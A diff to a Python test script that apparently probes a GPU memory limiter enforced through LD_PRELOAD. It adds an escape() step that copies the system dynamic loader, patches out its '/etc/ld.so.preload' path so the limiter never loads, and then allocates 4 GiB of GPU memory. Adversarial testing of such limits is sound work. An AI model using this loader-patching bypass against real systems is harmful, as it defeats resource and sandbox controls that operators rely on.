@@ -31,6 +31,15 @@ cuda.cuInit(0)
 print(0 if cuda.cuDeviceTotalMem_v2(ctypes.byref(total), 0) else total.value)
 """
 
+ESCAPE = """
+import ctypes, time
+cuda, context, place = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p(), ctypes.c_uint64()
+cuda.cuInit(0)
+code = cuda.cuDevicePrimaryCtxRetain(ctypes.byref(context), 0) or cuda.cuCtxSetCurrent(context)
+print("escaped", code or cuda.cuMemAlloc_v2(ctypes.byref(place), ctypes.c_size_t(4 << 30)), flush=True)
+time.sleep(3600)
+"""
+
 
 def say(what: str, number: object) -> None:
     """Print one outcome."""
@@ -59,9 +68,8 @@ def damaged() -> int:
 
 def memory_without_preload() -> str:
     """Return what a program sees that nobody told to load the limiter."""
-    environ = {name: value for name, value in os.environ.items() if name != "LD_PRELOAD"}
     command = [sys.executable, "-c", TOTAL]
-    return subprocess.run(command, env=environ, capture_output=True, text=True, check=False).stdout.strip()
+    return subprocess.run(command, env=_without_preload(), capture_output=True, text=True, check=False).stdout.strip()
 
 
 def sockets() -> int:
@@ -116,6 +124,19 @@ def flood() -> int:
     return count
 
 
+def escape() -> None:
+    """Start a program that knows another file for preloading, and so no limiter; it says what it allocates comes to."""
+    loader = Path("/loader")
+    known = Path("/lib64/ld-linux-x86-64.so.2").read_bytes()
+    loader.write_bytes(known.replace(b"/etc/ld.so.preload", b"/etc/ld.so.nothing"))
+    loader.chmod(0o755)
+    subprocess.Popen([loader, sys.executable, "-c", ESCAPE], env=_without_preload())
+
+
+def _without_preload() -> dict[str, str]:
+    return {name: value for name, value in os.environ.items() if name != "LD_PRELOAD"}
+
+
 def main() -> None:
     """Try everything."""
     say("damaged", damaged())
@@ -125,6 +146,7 @@ def main() -> None:
     say("flooded", flood())
     say("memory", memory_without_preload())
     say("over", 1)
+    escape()
     time.sleep(3600)
 
 
